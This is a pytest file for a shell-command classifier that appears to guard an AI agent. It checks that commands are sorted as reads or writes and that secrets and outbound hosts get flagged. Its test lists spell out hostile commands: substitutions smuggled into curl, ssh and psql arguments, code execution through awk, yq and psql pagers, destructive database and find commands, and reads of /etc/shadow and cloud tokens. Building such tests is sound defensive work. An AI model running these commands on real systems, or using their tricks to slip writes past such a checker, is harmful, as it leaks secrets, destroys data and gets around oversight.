"""Words that one program, version or shell takes for something else than another does."""

import pytest

from midwatch.safety.shell.classify import classify
from tests.safety.requirements import requirement

EMPTY_CHOICES = [
    "sed {,} 's/a/b/w f' g", "awk {,} 'BEGIN{system(\"id\")}'", "uniq {,} a b", "hostname {,} x", "gawk {,} -of '{}' g",
    "sort {,} {-o,f} g",
]  # fmt: skip
TWO_DASHES = [
    "systemctl -- stop nginx", "systemctl --no-pager -- enable /f.service", "networkctl -- down eth0",
    "resolvectl -- flush-caches", "busctl -- call a b c d", "machinectl -- poweroff x", "coredumpctl -- debug",
    "yq -- eval -i '.a=1' f", "fuser -- -k 80/tcp", "rg -- --pre=sh x", "ssh -- -oProxyCommand=x ls",
]  # fmt: skip
PLACES = [
    "unzip f.zip -l", "unzip f.zip g -t", "sed 'w f' -e p g", "sed 'e id' -n --expression=p g", "uniq a -c",
    "awk '{print}' -f g", "bzip2 -V f", "xz --version f", "POSIXLY_CORRECT=1 sed -n p f", "find . -fstype -delete",
]  # fmt: skip
LISTS = [
    "nm @f", "size @f", "objdump -d @f", "readelf -a @f", "7z l a.7z @f", "7z t a.7z @f", "ar t lib.a @f",
    "addr2line -e a @f", "nm *",
]  # fmt: skip
SENDS = [
    'curl -r "$(id)" http://h', 'curl --oauth2-bearer "$(cat f)" http://h', 'wget -qO- -U "$(id)" http://h',
    'wget -qO- --password="$(cat f)" http://h', 'promtool query instant http://h "up$(cat f)"',
    'redis-cli -h h get "x$(cat f)"', "mysql -h h -u \"$(id)\" -e 'select 1'", "psql -h h -U \"x$(id)\" -c 'select 1'",
    "psql -d \"host=h user=$(id)\" -c 'select 1'", "psql \"postgresql://h/$(id)\" -c 'select 1'",
    "mongosh \"mongodb://h/$(id)\" --eval 'db.stats()'", 'kafka-topics --bootstrap-server h --list --topic "x$(id)"',
    'ssh -l "x$(id)" h uptime', 'ssh -p "$(id)" h uptime', 'ss dst "a$(id).h"', 'tcpdump -c1 host "a$(id).h"',
    'lsof -i "@a$(id).h"', 'lsof "-i@a$(id).h"', 'dig h -t "x$(id)"', 'curl "http://h/?x=$HOME"',
    'curl "http://h/?x=$PWD"', 'snmpwalk -v2c -c "$(id)" h', 'skopeo inspect "docker://h/x$(id)"',
]  # fmt: skip
OTHERS = [
    "yq -s .a f", "yq e 'system(\"id\")' f", "yq eval 'load(\"f\")' g", "service ../../f status", "service /f status",
    "rc-service ../f status", "vault kv metadata delete secret/x", "vault kv metadata put secret/x",
    "'[' \"$op\" 'a[$(id)]' ]", "test ! \"$op\" 'a[$(id)]'", "test x -a \"$op\" 'a[$(id)]'", "test $a = b",
    "PWD=-delete; find . $PWD", "aws sts get-session-token", "aws redshift get-cluster-credentials --db-user x",
    "psql -l -c 'drop table t'", "psql -V -c 'drop table t'", "mysql -V -e 'drop table t'", "redis-cli -v flushall",
    "redis-cli --scan del x", "redis-cli --stat flushall", "sqlite3 -version f 'drop table t'",
    "clickhouse-client -V -q 'drop table t'", "mongosh --version --eval 'db.dropDatabase()'",
    "psql -c 'select own.version()'", "psql -c \"select * from own.format('x')\"",
    "psql -c 'select a.b.now()'", "psql -c 'select 1 from t tablesample own(1)'",
    "psql -c 'select 1 from t where a operator(own.=) b'", "psql -P 'pager=sh x' -c 'select 1'",
    "terraform fmt -check=false", "helm template . -f http://h/f", "helm template x stable/y",
    "pacman -Sy", "pacman -Su", "pacman -Ssu x", "parted /dev/sda print rm 1", "zless '+!id' f",
    "jcmd 1 GC.run", "jcmd 1 'VM.flags\nGC.run'", "zabbix_get -s h -k 'system.run[id]'", "tmux ls -F '#(id)'",
    "rclone ls ':sftp,ssh=\"id\":x'", "cpio -t -F h:f", "rsync -n a h:b", "rsync -a a b", "qemu-img info ssh://h/f",
    "mongosh --eval 'db.x.find({a: `${db.x.drop()}`})'", "nvidia-smi dmon -f x", "git ls-remote ext::id",
]  # fmt: skip
ARITHMETIC = [
    "! ((x=y))", "if ! ((x=y)); then ls; fi", "while ! ((x=y)); do ls; done", "! ((x=y)) | cat", "echo $(! ((x=y)))",
    "! ((ls))", "! (\\\n(x=y))", "((x=y)) && ls",
]  # fmt: skip
STILL_READING = [
    "ls {,x}", "cat -- -f", "grep -- -x f", "kubectl exec web -- ls -l", "unzip -l f.zip 'a*'", "sed -n -e p f",
    "sed -e p -e q f g", "tail -100f f", "psql -l", "psql -d app -c 'select 1'", "redis-cli --scan --pattern 'x*'",
    "psql postgresql://u@h/d -c 'select 1'", "psql -c 'select pg_catalog.version()'", "terraform fmt -check",
    "helm template ./chart -f v.yaml", "pacman -Ss x", "parted -l", "parted -s /dev/sda unit s print",
    "nvidia-smi topo -m", "git ls-remote origin", "cpio -it -F f", "rsync -avn a/ b/",
    "declare -p x", "du -sh $PWD", "find $PWD -name x", "service nginx status", "7z l a.7z b", "nm -D a", "jcmd",
    "mongosh --eval 'db.x.find({a: 1}).limit(5)'", "psql -P pager=off -c 'select 1'", "az version", "az --version",
    "'[' \"$a\" = b ]", 'test "$a" = b -o "$c" -gt 1', 'test -n "$a"', "( (ls) )", "! (ls; cat f)",
]  # fmt: skip


@requirement("shell:quoting")
@pytest.mark.parametrize("command", EMPTY_CHOICES)
def test_an_empty_choice_of_braces_is_no_word(command: str) -> None:
    assert classify(command).kind == "write"


@requirement("shell:blind-spots")
@pytest.mark.parametrize("command", ARITHMETIC)
def test_two_brackets_compute_wherever_they_stand(command: str) -> None:
    assert classify(command).kind == "write"


@requirement("shell:writing-options")
@pytest.mark.parametrize("command", [*TWO_DASHES, *PLACES])
def test_two_dashes_and_places_of_options_hide_nothing(command: str) -> None:
    assert classify(command).kind == "write"


@requirement("shell:foreign-options")
@pytest.mark.parametrize("command", LISTS)
def test_a_file_with_further_words_is_a_write(command: str) -> None:
    assert classify(command).kind == "write"


@requirement("shell:web")
@pytest.mark.parametrize("command", SENDS)
def test_what_is_not_known_is_not_sent_to_another_machine(command: str) -> None:
    assert classify(command).kind == "write"


@requirement("shell:unknown-is-write")
@pytest.mark.parametrize("command", OTHERS)
def test_what_only_some_programs_do_is_a_write(command: str) -> None:
    assert classify(command).kind == "write"


@requirement("shell:allowed-examples")
@pytest.mark.parametrize("command", STILL_READING)
def test_their_plain_forms_are_still_reading(command: str) -> None:
    assert classify(command).kind == "read"


@requirement("shell:egress")
def test_an_address_of_a_database_names_its_machine() -> None:
    assert classify("psql postgresql://u@db.example/d -c 'select 1'").egress == ("db.example",)
    assert classify("psql 'host=db.example dbname=d' -c 'select 1'").egress == ("db.example",)


@requirement("shell:secrets")
@pytest.mark.parametrize(
    "command",
    [
        "echo $AWS_SECRET_ACCESS_KEY", 'printf %s "$DB_PASSWORD"', "export -p", "declare -p X", "file -f /etc/shadow",
        "du --files0-from=/etc/shadow", "find /etc -name shadow -exec cat {} +", "redis-cli config get requirepass",
        "redis-cli acl list", "psql -c 'select * from pg_shadow'", "systemctl show x -p Environment",
        "docker inspect -f '{{.Config.Env}}' x", "awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'",
        "cat ~/.config/gh/hosts.yml", "cat /tmp/krb5cc_0", "aws eks get-token --cluster-name x",
    ],
)  # fmt: skip
def test_secrets_are_named_where_they_show(command: str) -> None:
    verdict = classify(command)
    assert verdict.kind == "read"
    assert verdict.sensitive


@requirement("shell:secrets")
@pytest.mark.parametrize(
    "command", ["x_token=1; TOKENS=a; echo $TOKENS", "redis-cli config get maxmemory", "du -sh /etc"]
)
def test_plain_values_are_no_secrets(command: str) -> None:
    assert not classify(command).sensitive
